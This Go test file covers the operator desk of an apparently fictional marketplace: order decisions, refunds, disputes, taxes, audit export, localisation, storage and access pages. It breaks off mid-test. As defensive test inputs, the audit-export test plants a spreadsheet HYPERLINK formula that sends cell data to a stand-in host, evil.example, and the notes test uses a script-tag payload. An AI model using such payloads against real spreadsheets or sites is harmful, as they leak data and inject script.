package operator_test

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"vitrine"
	"vitrine/internal/auth"
	"vitrine/internal/clocktest"
	"vitrine/internal/locale"
	"vitrine/internal/markettest"
	"vitrine/internal/pages"
	"vitrine/internal/pages/operator"
	"vitrine/internal/payment"
	"vitrine/internal/session"
	"vitrine/internal/shop"
	"vitrine/internal/store"
	"vitrine/internal/store/storetest"
	"vitrine/internal/web"
)

// site serves the operator's desk of a marketplace whose operator confirms payments.
type site struct {
	db      *store.DB
	shop    *shop.Shop
	clock   *clocktest.Clock
	handler http.Handler
}

func newSite(t *testing.T) *site {
	t.Helper()
	s := &site{db: storetest.SQLite(t), clock: clocktest.At(time.Date(2026, 5, 6, 12, 0, 0, 0, time.UTC))}
	s.shop = shop.New(shop.Options{DB: s.db, Payments: payment.Manual{}, Settings: shop.DefaultSettings(), Now: s.clock.Now,
		VisitorKey: []byte("key")})
	if err := s.shop.Seed(t.Context()); err != nil {
		t.Fatal(err)
	}
	shell, err := pages.New(pages.Options{BaseURL: markettest.BaseURL, Sessions: session.New(s.shop, markettest.BaseURL), Now: s.clock.Now})
	if err != nil {
		t.Fatal(err)
	}
	room, err := operator.New(operator.Options{Shell: shell, Shop: s.shop, DB: s.db, Now: s.clock.Now})
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	room.Register(mux)
	s.handler = web.Wrap(mux, web.Options{Missing: shell.Missing})
	return s
}

// ask sends a request as who has a session's secret.
func (s *site) ask(t *testing.T, method, path, secret string, form url.Values) *httptest.ResponseRecorder {
	t.Helper()
	r := httptest.NewRequestWithContext(t.Context(), method, path, strings.NewReader(form.Encode()))
	r.Header.Set("Accept", "text/html")
	if form != nil {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	r.AddCookie(&http.Cookie{Name: "__Host-vitrine-session", Value: secret})
	w := httptest.NewRecorder()
	s.handler.ServeHTTP(w, r)
	return w
}

// operator makes an operator who has just signed in, and returns the secret of the session.
func (s *site) operator(t *testing.T, name string) string {
	t.Helper()
	user, _, err := s.shop.CreateUser(t.Context(), shop.NewUser{Username: name, Email: name + "@example.com", Admin: true})
	if err != nil {
		t.Fatal(err)
	}
	secret, now := auth.NewSecret(auth.SessionPrefix), s.clock.Now()
	write(t, s.db, func(tx *store.Tx) error {
		session := vitrine.Session{UserID: user.ID, Method: vitrine.ByPassword, CreatedAt: now, SeenAt: now, ProvedAt: now}
		return tx.InsertSession(t.Context(), &session, auth.Hash(secret))
	})
	return secret
}

func write(t *testing.T, db *store.DB, change func(*store.Tx) error) {
	t.Helper()
	if err := db.Write(t.Context(), change); err != nil {
		t.Fatal(err)
	}
}

// order makes an unpaid order of 12.50.
func (s *site) order(t *testing.T, uuid, email string) *vitrine.Order {
	t.Helper()
	user, _, err := s.shop.CreateUser(t.Context(), shop.NewUser{Email: "maker-of-" + uuid + "@example.com"})
	if err != nil {
		t.Fatal(err)
	}
	made, err := s.shop.CreateModel(t.Context(), vitrine.Caller{User: *user, Scopes: vitrine.DefaultScopes()},
		shop.ModelRequest{ModelChange: vitrine.ModelChange{Title: vitrine.Some("Oak chair")}})
	if err != nil {
		t.Fatal(err)
	}
	o := &vitrine.Order{
		UUID: uuid, UserID: user.ID, BuyersEmail: email, Status: vitrine.Unpaid, ModelID: made.ID, Price: 1250, Currency: "USD", Live: true,
		Model:   vitrine.PinnedModel{Title: "Oak chair", Slug: "oak-chair", AuthorID: user.ID, AuthorName: "ada"},
		License: vitrine.PinnedLicense{Type: vitrine.General, Hash: "h"}, Files: []vitrine.OrderFile{}, Handle: uuid,
		CreatedAt: s.clock.Now(), UpdatedAt: s.clock.Now(), ExpiresAt: s.clock.Now().Add(time.Hour),
	}
	write(t, s.db, func(tx *store.Tx) error {
		_, err := tx.InsertOrder(t.Context(), o)
		return err
	})
	return o
}

func pathOf(o *vitrine.Order) string { return "/desk/orders/" + strconv.FormatInt(o.ID, 10) }

// version is the form of an order as its page shows it now.
func (s *site) version(t *testing.T, o *vitrine.Order) url.Values {
	t.Helper()
	now, err := s.db.Order(t.Context(), o.ID)
	if err != nil {
		t.Fatal(err)
	}
	return url.Values{"version": {strconv.FormatInt(now.Version, 10)}}
}

// TestTwoDecide has two operators decide of one order, who saw it as it was before: one
// wins, and the other is told, whatever the two do.
func TestTwoDecide(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		first, second string
		paid          bool
		want          vitrine.OrderStatus
	}{
		{"confirm", "confirm", false, vitrine.Paid}, {"confirm", "cancel", false, vitrine.Paid}, {"cancel", "confirm", false, vitrine.Canceled},
		{"refund", "refund", true, vitrine.Refunded},
	} {
		s := newSite(t)
		ada, bob := s.operator(t, "ada-op"), s.operator(t, "bob-op")
		o := s.order(t, "one", "buyer@example.com")
		if c.paid {
			if _, err := s.shop.MarkPaid(t.Context(), o.ID, ""); err != nil {
				t.Fatal(err)
			}
		}
		seen := s.version(t, o)
		if got := s.ask(t, http.MethodPost, pathOf(o)+"/"+c.first, ada, seen); got.Code != http.StatusSeeOther {
			t.Errorf("%+v: the first is answered %d\n%s", c, got.Code, got.Body)
		}
		got := s.ask(t, http.MethodPost, pathOf(o)+"/"+c.second, bob, seen)
		if got.Code != http.StatusPreconditionFailed || !strings.Contains(got.Body.String(), "Somebody has decided of order") {
			t.Errorf("%+v: the second is answered %d\n%s", c, got.Code, got.Body)
		}
		if now, err := s.db.Order(t.Context(), o.ID); err != nil || now.Status != c.want {
			t.Errorf("%+v: the order is %v, %v", c, now.Status, err)
		}
		page := s.ask(t, http.MethodGet, pathOf(o), bob, nil).Body.String()
		if !strings.Contains(page, "ada-op, from") || strings.Contains(page, "bob-op") {
			t.Errorf("%+v: the page does not say that the first decided:\n%s", c, page)
		}
	}
}

// TestDeskTakesBundlesWhole has no button that would take the money of one order of a bundle, and refuses who asks for it all the same.
func TestDeskTakesBundlesWhole(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret := s.operator(t, "ada-op")
	first, second := s.order(t, "one", "buyer@example.com"), s.order(t, "two", "buyer@example.com")
	c := &vitrine.Checkout{UUID: "both", UserID: first.UserID, Orders: []*vitrine.Order{first, second}, Currency: "USD", Live: true,
		Handle: "both", CreatedAt: s.clock.Now()}
	b := &vitrine.Bundle{SellerID: first.UserID, Name: "Pair", Price: 2000, Zone: "UTC", BeginsAt: s.clock.Now(), CreatedAt: s.clock.Now(),
		UpdatedAt: s.clock.Now(), Models: []vitrine.BundledModel{{ID: first.ModelID}, {ID: second.ModelID}}}
	write(t, s.db, func(tx *store.Tx) error {
		if err := tx.InsertBundle(t.Context(), b); err != nil {
			return err
		}
		for _, o := range c.Orders {
			d := vitrine.Discount{Bundle: vitrine.BundlePart{ID: b.ID, Price: 1000, Orders: 2}, List: 1250}
			if err := tx.SetDiscount(t.Context(), o, d, 1000, s.clock.Now()); err != nil {
				return err
			}
		}
		_, err := tx.InsertCheckout(t.Context(), c)
		return err
	})
	page := s.ask(t, http.MethodGet, pathOf(first), secret, nil).Body.String()
	if strings.Contains(page, ">Confirm the payment<") || !strings.Contains(page, ">Confirm all of them<") {
		t.Errorf("the page of an order of a bundle has the wrong buttons:\n%s", page)
	}
	got := s.ask(t, http.MethodPost, pathOf(first)+"/confirm", secret, s.version(t, first))
	if got.Code != http.StatusConflict || !strings.Contains(got.Body.String(), "vitrine order pay-checkout 1") {
		t.Errorf("one order of a bundle is answered %d\n%s", got.Code, got.Body)
	}
	all := url.Values{"checkout": {strconv.FormatInt(c.ID, 10)}, "version": {strconv.FormatInt(c.Version, 10)}, "paid_at": {"1999-12-31"}}
	got = s.ask(t, http.MethodPost, pathOf(first)+"/confirm", secret, all)
	if got.Code != http.StatusUnprocessableEntity || !strings.Contains(got.Body.String(), `id="paid-at-all-fault"`) {
		t.Errorf("money of before the checkout is answered %d\n%s", got.Code, got.Body)
	}
	all.Set("paid_at", s.clock.Now().UTC().Format(time.DateOnly))
	if got := s.ask(t, http.MethodPost, pathOf(first)+"/confirm", secret, all); got.Code != http.StatusSeeOther {
		t.Errorf("all of them are answered %d\n%s", got.Code, got.Body)
	}
	if now, err := s.db.Order(t.Context(), second.ID); err != nil || now.Status != vitrine.Paid {
		t.Errorf("the other one is %v, %v", now.Status, err)
	}
}

// TestDeskLeavesDisputesToProviders offers the end of a dispute where nobody else tells of it, and refuses who asks for it all the
// same where the provider does.
func TestDeskLeavesDisputesToProviders(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret := s.operator(t, "ada-op")
	for provider, offered := range map[string]bool{"sandbox": true, "stripe": false} {
		o := s.order(t, provider, "buyer@example.com")
		for _, kind := range []payment.Kind{payment.Paid, payment.Disputed} {
			e := payment.Event{Provider: provider, ID: provider + string(kind), OrderID: o.ID, Kind: kind, Payment: "cs_" + provider}
			if err := s.shop.RecordPayment(t.Context(), e); err != nil {
				t.Fatal(err)
			}
		}
		page := s.ask(t, http.MethodGet, pathOf(o), secret, nil).Body.String()
		if strings.Contains(page, `name="paid_at"`) {
			t.Errorf("the end of a dispute asks when the money came:\n%s", page)
		}
		if strings.Contains(page, ">Confirm the payment<") != offered || strings.Contains(page, `· <a href="/desk/disputes">`) == offered {
			t.Errorf("the page of an order that was paid by %s and is disputed has the wrong button:\n%s", provider, page)
		}
		if strings.Contains(page, ">Refund the order<") != offered ||
			strings.Contains(page, "Nothing can go back until that is over.") == offered {
			t.Errorf("the page of an order that was paid by %s and is disputed offers a refund, or none:\n%s", provider, page)
		}
		code, status := http.StatusSeeOther, vitrine.Paid
		if !offered {
			code, status = http.StatusConflict, vitrine.Disputed
		}
		got := s.ask(t, http.MethodPost, pathOf(o)+"/confirm", secret, s.version(t, o))
		if got.Code != code || !offered && !strings.Contains(got.Body.String(), "stripe tells how it ended") {
			t.Errorf("the end of a dispute of %s is answered %d\n%s", provider, got.Code, got.Body)
		}
		if now, err := s.db.Order(t.Context(), o.ID); err != nil || now.Status != status {
			t.Errorf("then the order by %s is %v, %v", provider, now.Status, err)
		}
	}
}

// TestDeskSendsNothingThatABankHas lets nobody send by hand what a refund did not bring, while the buyer's bank has money of the order.
func TestDeskSendsNothingThatABankHas(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret, o := s.operator(t, "ada-op"), s.order(t, "one", "buyer@example.com")
	happens := func(kind payment.Kind, id, object string, amount vitrine.Amount) {
		t.Helper()
		e := payment.Event{Provider: "stripe", ID: id, OrderID: o.ID, Kind: kind, Payment: "cs_1", Object: object, Amount: amount}
		if err := s.shop.RecordPayment(t.Context(), e); err != nil {
			t.Fatal(err)
		}
	}
	happens(payment.Paid, "paid", "", 0)
	happens(payment.Refunded, "refunded", "re_1", 500)
	happens(payment.RefundFailed, "failed", "re_1", 500)
	happens(payment.Disputed, "drawn", "dp_1", 750)
	rows, err := s.db.RefundsOfOrder(t.Context(), o.ID)
	if err != nil || len(rows) != 1 || rows[0].State != vitrine.RefundOwed {
		t.Fatalf("the refunds are %+v, %v", rows, err)
	}
	settle := "/desk/refunds/" + strconv.FormatInt(rows[0].ID, 10) + "/settle"
	wantPage := func(offered bool) {
		t.Helper()
		page := s.ask(t, http.MethodGet, "/desk/refunds", secret, nil).Body.String()
		if strings.Contains(page, ">It was sent<") != offered || strings.Contains(page, "The buyer’s bank has money") == offered {
			t.Errorf("the page offers it, or not:\n%s", page)
		}
	}
	wantPage(false)
	sent := url.Values{"note": {"by transfer"}, "version": {strconv.FormatInt(rows[0].Version, 10)}}
	got := s.ask(t, http.MethodPost, settle, secret, sent)
	if got.Code != http.StatusConflict || !strings.Contains(got.Body.String(), "Nothing was noted: the buyer’s bank") {
		t.Errorf("while the bank has the money: %d\n%s", got.Code, got.Body)
	}
	happens(payment.DisputeOver, "won", "dp_1", 750)
	wantPage(true)
	// Who read the page before the amount was another one sent another one.
	row := rows[0]
	row.Amount = 400
	write(t, s.db, func(tx *store.Tx) error { return tx.UpdateRefund(t.Context(), &row, s.clock.Now()) })
	if got = s.ask(t, http.MethodPost, settle, secret, sent); got.Code != http.StatusConflict ||
		!strings.Contains(got.Body.String(), "This was changed meanwhile") || !strings.Contains(got.Body.String(), "4.00 USD") {
		t.Errorf("after the amount has changed: %d\n%s", got.Code, got.Body)
	}
	sent.Set("version", strconv.FormatInt(rows[0].Version+1, 10))
	if got = s.ask(t, http.MethodPost, settle, secret, sent); got.Code != http.StatusSeeOther {
		t.Errorf("after the dispute: %d\n%s", got.Code, got.Body)
	}
	if got = s.ask(t, http.MethodPost, settle, secret, url.Values{"note": {"by transfer"}}); got.Code != http.StatusConflict ||
		!strings.Contains(got.Body.String(), "Somebody else has settled") {
		t.Errorf("once more: %d\n%s", got.Code, got.Body)
	}
}

// TestDeskSaysWhatIsShared warns of a provider's own desk where a payment was of several orders, and of no other one.
func TestDeskSaysWhatIsShared(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret := s.operator(t, "ada-op")
	alone, first, second := s.order(t, "alone", "a@example.com"), s.order(t, "one", "b@example.com"), s.order(t, "two", "b@example.com")
	c := &vitrine.Checkout{UUID: "both", UserID: first.UserID, Orders: []*vitrine.Order{first, second}, Currency: "USD", Live: true,
		Handle: "both", CreatedAt: s.clock.Now()}
	write(t, s.db, func(tx *store.Tx) error {
		if _, err := tx.InsertCheckout(t.Context(), c); err != nil {
			return err
		}
		c.PaymentID = "cs_both"
		return tx.UpdateCheckout(t.Context(), c, s.clock.Now())
	})
	for o, name := range map[*vitrine.Order]string{alone: "cs_alone", first: "cs_both", second: "cs_both"} {
		for _, kind := range []payment.Kind{payment.Paid, payment.Refunded, payment.RefundFailed} {
			e := payment.Event{Provider: "stripe", ID: string(kind) + o.UUID, OrderID: o.ID, Kind: kind, Payment: name}
			if kind != payment.Paid {
				e.Object, e.Amount = "re_"+o.UUID, 500
			}
			if err := s.shop.RecordPayment(t.Context(), e); err != nil {
				t.Fatal(err)
			}
		}
	}
	for name, orders := range map[string][]*vitrine.Order{"cs_again": {first, second}, "cs_first_again": {first}} { // paid twice
		for _, o := range orders {
			write(t, s.db, func(tx *store.Tx) error {
				return tx.InsertRefund(t.Context(), &vitrine.Refund{OrderID: o.ID, Needless: true, Provider: "stripe", Payment: name, Amount: o.Price,
					Currency: o.Currency, State: vitrine.RefundOwed, Reason: vitrine.ReasonDuplicate, CreatedAt: s.clock.Now()})
			})
		}
	}
	page := s.ask(t, http.MethodGet, "/desk/refunds", secret, nil).Body.String()
	owed, warned := strings.Count(page, ">It was sent<"), strings.Count(page, "Other orders were paid with it.")
	if owed != 6 || warned != 4 {
		t.Errorf("of %d refunds to be sent, %d are said to be of a payment of several orders; want 4 of 6\n%s", owed, warned, page)
	}
}

// TestDeskHasTaxesToCheck names an order whose tax Stripe Tax did not find, until an operator has looked at it.
func TestDeskHasTaxesToCheck(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret, o := s.operator(t, "ada-op"), s.order(t, "one", "buyer@example.com")
	const tile, button = `<a href="/desk/money#taxes">tax to look at</a> <strong>1</strong>`, "I have looked at it"
	page := func(path string) string { return s.ask(t, http.MethodGet, path, secret, nil).Body.String() }
	if got := s.ask(t, http.MethodPost, pathOf(o)+"/tax", secret, url.Values{}); got.Code != http.StatusConflict ||
		strings.Contains(page("/desk"), "/desk/money#taxes") || strings.Contains(page(pathOf(o)), button) {
		t.Errorf("nobody has to look at it, and who does is answered %d", got.Code)
	}
	write(t, s.db, func(tx *store.Tx) error {
		fallback := vitrine.OrderTax{Mode: vitrine.TaxTable, Treatment: vitrine.Taxed, Amount: 208, Rate: 2000, Country: "FR", Fallback: true}
		if err := tx.PinTax(t.Context(), o, fallback); err != nil {
			return err
		}
		return tx.CheckTaxLater(t.Context(), o.ID, s.clock.Now())
	})
	if got := page("/desk"); !strings.Contains(got, tile) {
		t.Errorf("the desk does not say that a tax waits:\n%s", got)
	}
	if got := page(pathOf(o)); !strings.Contains(got, button) || !strings.Contains(got, "it is that of the table of rates") {
		t.Errorf("the order does not say it:\n%s", got)
	}
	if got := s.ask(t, http.MethodPost, pathOf(o)+"/tax", secret, url.Values{}); got.Code != http.StatusSeeOther {
		t.Errorf("who looked at it is answered %d\n%s", got.Code, got.Body)
	}
	got := page(pathOf(o))
	if strings.Contains(page("/desk"), tile) || strings.Contains(got, button) || !strings.Contains(got, "it is that of the table of rates") ||
		!strings.Contains(got, "Looked at a tax") {
		t.Errorf("then the order says:\n%s", got)
	}
}

// TestDecisionsAskOnceMore leads operators who signed in a while ago to show that it is
// them, and asks in the change whether they still are operators.
func TestDecisionsAskOnceMore(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret, o := s.operator(t, "ada-op"), s.order(t, "one", "buyer@example.com")
	in, err := s.shop.SessionOf(t.Context(), secret)
	if err != nil {
		t.Fatal(err)
	}
	s.clock.Advance(vitrine.FreshFor)
	got := s.ask(t, http.MethodPost, pathOf(o)+"/confirm", secret, s.version(t, o))
	if !strings.HasPrefix(got.Header().Get("Location"), "/sign-in/again?next=%2Fdesk%2Forders%2F1%2Fconfirm") {
		t.Errorf("an operator of a while ago: %d, to %q", got.Code, got.Header().Get("Location"))
	}
	got = s.ask(t, http.MethodGet, pathOf(o)+"/confirm", secret, nil)
	if got.Header().Get("Location") != pathOf(o) {
		t.Errorf("who comes back is led to %q", got.Header().Get("Location"))
	}
	if _, err := s.shop.Suspend(t.Context(), "ada-op"); err != nil {
		t.Fatal(err)
	}
	in.Session.ProvedAt = s.clock.Now()
	if _, err := s.shop.ConfirmOrder(t.Context(), in, o.ID, "", nil); vitrine.CodeOf(err) != vitrine.Unauthenticated {
		t.Errorf("who was suspended a moment ago confirms: %v", err)
	}
	if err := s.shop.NoteOrder(t.Context(), in, o.ID, "here"); vitrine.CodeOf(err) != vitrine.Unauthenticated {
		t.Errorf("who was suspended a moment ago writes: %v", err)
	}
}

// TestOrdersAreFound looks for orders in every way that the page has.
func TestOrdersAreFound(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret := s.operator(t, "op-one")
	first, second := s.order(t, "uuid-of-one", "Ada@example.com"), s.order(t, "uuid-of-two", "<b>@example.com")
	if _, err := s.shop.MarkPaid(t.Context(), second.ID, ""); err != nil {
		t.Fatal(err)
	}
	for query, want := range map[string][2]bool{
		"": {true, true}, "find=1": {true, false}, "find=%232": {false, true}, "find=uuid-of-two": {false, true},
		"find=ada@EXAMPLE.com": {true, false},
		"model=1":              {true, false}, "model=8": {false, false}, "amount=12,50": {true, true}, "amount=12.51": {false, false},
		"status=paid": {false, true}, "status=unpaid&amount=12.50": {true, false}, "find=99": {false, false},
	} {
		got := s.ask(t, http.MethodGet, "/desk/orders?"+query, secret, nil)
		for i, o := range []*vitrine.Order{first, second} {
			if shown := strings.Contains(got.Body.String(), `href="`+pathOf(o)+`"`); got.Code != http.StatusOK || shown != want[i] {
				t.Errorf("%q shows order %d: %v, status %d", query, o.ID, shown, got.Code)
			}
		}
	}
	if page := s.ask(t, http.MethodGet, "/desk/orders", secret, nil).Body.String(); !strings.Contains(page, "Number of the model") {
		t.Error("the field does not say that models are found by their numbers")
	}
	for query, fault := range map[string]string{"model=x": "model-fault", "amount=x": "amount-fault", "status=x": "status-fault"} {
		got := s.ask(t, http.MethodGet, "/desk/orders?"+query, secret, nil)
		if got.Code != http.StatusUnprocessableEntity || !strings.Contains(got.Body.String(), `id="`+fault+`"`) {
			t.Errorf("%q: %d\n%s", query, got.Code, got.Body)
		}
	}
}

// TestNotesStay refuses notes of nothing and keeps what was typed; those that are kept are
// text.
func TestNotesStay(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret, o := s.operator(t, "op-one"), s.order(t, "one", "buyer@example.com")
	long := strings.Repeat("ä", 2001)
	for _, text := range []string{"  ", long} {
		got := s.ask(t, http.MethodPost, pathOf(o)+"/note", secret, url.Values{"note": {text}})
		if got.Code != http.StatusUnprocessableEntity || !strings.Contains(got.Body.String(), `id="note-fault"`) ||
			text == long && !strings.Contains(got.Body.String(), long) {
			t.Errorf("a note of %d bytes: %d", len(text), got.Code)
		}
	}
	s.ask(t, http.MethodPost, pathOf(o)+"/note", secret, url.Values{"note": {"<script>alert(1)</script>"}})
	if got := s.ask(t, http.MethodGet, pathOf(o), secret, nil).Body.String(); !strings.Contains(got, "&lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Errorf("the page lacks the note:\n%s", got)
	}
}

// TestReceiptAgain sends one mail for two presses of a button, and none for what is unpaid.
func TestReceiptAgain(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret, o := s.operator(t, "op-one"), s.order(t, "one", "buyer@example.com")
	if got := s.ask(t, http.MethodPost, pathOf(o)+"/receipt", secret, url.Values{}); got.Code != http.StatusConflict {
		t.Errorf("of an unpaid order: %d", got.Code)
	}
	if _, err := s.shop.MarkPaid(t.Context(), o.ID, ""); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		if got := s.ask(t, http.MethodPost, pathOf(o)+"/receipt", secret, url.Values{}); got.Code != http.StatusSeeOther {
			t.Errorf("of a paid one: %d\n%s", got.Code, got.Body)
		}
	}
	mails, err := s.db.Mails(t.Context(), "", 0, 10)
	if err != nil || len(mails) != 1 || mails[0].Email != "buyer@example.com" {
		t.Errorf("the mails are %+v, %v", mails, err)
	}
}

// TestAuditExport reads the whole log as CSV and JSON, of more entries than are in memory
// at once, with a note that a program for tables would carry out.
func TestAuditExport(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret := s.operator(t, "op-one")
	const formula, entries = `=HYPERLINK("https://evil.example/?"&A1)`, 1203
	write(t, s.db, func(tx *store.Tx) error {
		for i := range entries {
			err := tx.AddEntry(t.Context(), &vitrine.Entry{At: s.clock.Now(), By: vitrine.Actor{Name: "@mallory", Application: "+1"},
				Act: vitrine.ActOrderNote, SubjectID: strconv.Itoa(i), Note: formula})
			if err != nil {
				return err
			}
		}
		return nil
	})
	got := s.ask(t, http.MethodGet, "/desk/audit/csv?act=order.note", secret, nil)
	table, err := csv.NewReader(got.Body).ReadAll()
	if err != nil || len(table) != entries+1 {
		t.Fatalf("the table has %d rows, %v", len(table), err)
	}
	if row := table[1]; row[11] != "'"+formula || row[3] != "'@mallory" || row[4] != "'+1" {
		t.Errorf("a row is %q", row)
	}
	got = s.ask(t, http.MethodGet, "/desk/audit/json?act=order.note", secret, nil)
	var list []map[string]any
	if err := json.Unmarshal(got.Body.Bytes(), &list); err != nil || len(list) != entries || list[0]["note"] != formula {
		t.Errorf("%d entries, %v", len(list), err)
	}
	got = s.ask(t, http.MethodGet, "/desk/audit/json?who=nobody", secret, nil)
	if text := got.Body.String(); text != "[]\n" {
		t.Errorf("no entries are %q", text)
	}
	if got := s.ask(t, http.MethodGet, "/desk/audit/csv?since=yesterday", secret, nil); got.Code != http.StatusUnprocessableEntity {
		t.Errorf("a day that is none: %d", got.Code)
	}
}

// TestActsHaveWords fails for an act that the pages would tell by its name.
func TestActsHaveWords(t *testing.T) {
	t.Parallel()
	for _, act := range vitrine.Acts() {
		if operator.WordsOf(locale.English(), act) == string(act) {
			t.Errorf("%s has no words", act)
		}
		if !operator.HasSubject(act) {
			t.Errorf("%s is about a %q, which has no words", act, act.Kind())
		}
	}
}

// TestActorsAreSaid names who has no account in the language of the page.
func TestActorsAreSaid(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret := s.operator(t, "op-one")
	actors := map[string]string{vitrine.ByCommand: "die Befehlszeile", vitrine.ByServer: "der Server", vitrine.ByVisitor: "ein Besucher"}
	for name := range actors {
		o := s.order(t, "paid-by-"+strconv.Itoa(len(name)), "buyer@example.com")
		if _, err := s.shop.MarkPaid(shop.By(t.Context(), vitrine.Actor{Name: name}), o.ID, ""); err != nil {
			t.Fatal(err)
		}
	}
	page := s.ask(t, http.MethodGet, "/desk/audit?lang=de", secret, nil).Body.String()
	for name, said := range actors {
		if !strings.Contains(page, said) || strings.Contains(page, name) {
			t.Errorf("a page in German does not say %q for %q:\n%s", said, name, page)
		}
	}
}

// TestLanguages shows the desk in languages of its readers.
func TestLanguages(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	secret, o := s.operator(t, "op-one"), s.order(t, "one", "buyer@example.com")
	s.ask(t, http.MethodPost, pathOf(o)+"/confirm", secret, url.Values{"version": {"1"}})
	for path, says := range map[string][]string{
		"/desk?lang=de":              {"Bestellungen der letzten 7 Tage", "12,50\u00a0USD"},
		"/desk/orders?lang=ar":       {`dir="rtl"`, "طلب واحد", "الطلب 1", "مدفوع"},
		"/desk/orders/1?lang=fr":     {"Commande 1", "Paiement confirmé", "12,50\u00a0USD", "op-one"},
		"/desk/audit?lang=zh-Hans":   {"</a>：确认了付款</h2>", `<a href="/desk/orders/1">订单 1`},
		"/desk/audit?act=x&lang=es":  {"Elija uno de los actos."},
		"/desk/jobs?lang=de":         {"Keine Aufgabe ist gescheitert."},
		"/desk/categories?lang=ar":   {"طائرات", "فئة جديدة"},
		"/desk/categories/1?lang=de": {"Luftfahrt"},
	} {
		page := s.ask(t, http.MethodGet, path, secret, nil).Body.String()
		for _, text := range says {
			if !strings.Contains(page, text) {
				t.Errorf("%s does not say %q:\n%s", path, text, page)
			}
		}
		if strings.Contains(page, `<main id="main" lang="en"`) {
			t.Errorf("%s is marked as English", path)
		}
	}
}

// TestStoragePages lists who stores what, and limits somebody.
func TestStoragePages(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.order(t, "uuid-of-an-order", "eve@example.com")
	file := vitrine.File{ModelID: 1, Name: "a.stl", Size: 2_500_000, Status: vitrine.FileReady, BlobKey: "files/a",
		CreatedAt: s.clock.Now(), UpdatedAt: s.clock.Now()}
	write(t, s.db, func(tx *store.Tx) error { return tx.InsertFile(t.Context(), &file) })
	if err := s.db.AddTallies(t.Context()); err != nil {
		t.Fatal(err)
	}
	author, err := s.db.User(t.Context(), 1)
	if err != nil {
		t.Fatal(err)
	}
	operator := s.operator(t, "operator")
	of := "/desk/storage/1"
	for _, step := range []struct {
		method, path, typed string
		status              int
		says                []string
	}{
		{http.MethodGet, "/desk/storage", "", 200, []string{author.Username, "2.5 MB", "together store 2.5 MB in 1 file."}},
		{http.MethodGet, "/desk/storage?find=nobody", "", 200, []string{"Nobody is found whose name begins with “nobody”."}},
		{http.MethodGet, of, "", 200, []string{"Stores 2.5 MB, and may store as much as there is room for."}},
		{http.MethodPost, of, "a lot", 422, []string{`value="a lot"`, `id="storage-fault"`, "a number of GB such as 20"}},
		{http.MethodPost, of, "0,001", 303, nil},
		{http.MethodGet, of + "?done=limit", "", 200, []string{"Stores 2.5 MB of 1.0 MB.", `value="0.001"`, "That is how much"}},
		{http.MethodGet, "/desk/storage", "", 200, []string{"over the limit", "their own"}},
		{http.MethodPost, of, "", 303, nil},
		{http.MethodGet, of, "", 200, []string{`value=""`}},
		{http.MethodGet, "/desk/storage/999", "", 404, nil},
		{http.MethodPost, "/desk/storage/999", "1", 404, nil},
	} {
		got := s.ask(t, step.method, step.path, operator, url.Values{"storage": {step.typed}})
		for _, want := range append(step.says, "") {
			if got.Code != step.status || !strings.Contains(strings.Join(strings.Fields(got.Body.String()), " "), want) {
				t.Errorf("%s %s with %q answers %d, wants %d and %q:\n%s", step.method, step.path, step.typed, got.Code, step.status, want, got.Body)
			}
		}
	}
}

// TestCategoriesOfTwo has two operators change a category that both have looked at: the second is
// shown what they typed, and told.
func TestCategoriesOfTwo(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	operator := s.operator(t, "operator")
	const of = "/desk/categories/1"
	_, rest, _ := strings.Cut(s.ask(t, http.MethodGet, of, operator, nil).Body.String(), `name="version" value="`)
	version, _, _ := strings.Cut(rest, `"`)
	send := func(title, version string) *httptest.ResponseRecorder {
		return s.ask(t, http.MethodPost, of, operator, url.Values{"title": {title}, "slug": {"kilns"}, "product_type": {"cg"},
			"version": {version}})
	}
	if got := send("Kilns", version); got.Code != http.StatusSeeOther {
		t.Fatalf("the first answers %d:\n%s", got.Code, got.Body)
	}
	for _, version := range []string{version, "", "x"} {
		got := send("Ovens", version)
		if got.Code != http.StatusPreconditionFailed || !strings.Contains(got.Body.String(), "This was changed meanwhile") ||
			!strings.Contains(got.Body.String(), `value="Ovens"`) ||
			!strings.Contains(got.Body.String(), `<dt>Title of its page</dt><dd class="words" dir="auto">Kilns</dd>`) ||
			strings.Contains(got.Body.String(), `<dt>Slug`) {
			t.Errorf("with the version %q it answers %d:\n%s", version, got.Code, got.Body)
		}
	}
	if c, err := s.db.Category(t.Context(), 1); err != nil || c.Title != "Kilns" {
		t.Errorf("it is %+v, %v", c, err)
	}
}

// TestAccessPages finds applications and tokens, and ends both.
func TestAccessPages(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	owner, _, err := s.shop.CreateUser(t.Context(), shop.NewUser{Username: "ada", Email: "ada@example.com"})
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err = s.shop.CreateApplication(t.Context(), shop.NewApplication{Name: "<b>Slicer", OwnerID: owner.ID}); err != nil {
		t.Fatal(err)
	}
	operator := s.operator(t, "operator") // who has a token of their own, as ada has
	for _, step := range []struct {
		method, path string
		status       int
		says         string
	}{
		{http.MethodGet, "/desk/applications", 200, "&lt;b&gt;Slicer"},
		{http.MethodGet, "/desk/applications?find=%3CB&by=name", 200, "&lt;b&gt;Slicer"},
		{http.MethodGet, "/desk/applications?find=ADA&by=owner", 200, "&lt;b&gt;Slicer"},
		{http.MethodGet, "/desk/applications?find=nobody&by=owner", 200, "No application is like that."},
		{http.MethodGet, "/desk/applications?find=x&by=client", 200, "No application is like that."},
		{http.MethodGet, "/desk/applications/1", 200, "<code>models:read</code>"},
